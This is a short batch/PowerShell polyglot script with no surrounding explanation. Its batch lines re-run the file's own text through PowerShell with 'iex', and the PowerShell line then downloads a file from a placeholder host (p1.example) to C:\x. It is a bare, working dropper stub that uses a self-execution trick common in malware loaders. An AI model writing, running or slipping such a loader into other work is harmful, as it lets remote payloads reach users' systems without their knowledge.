<# :
@echo off
powershell -nop -c "iex ((gc '%~f0') -join \"`n\")"
exit /b
#>
iwr http://p1.example/a -OutFile C:\x
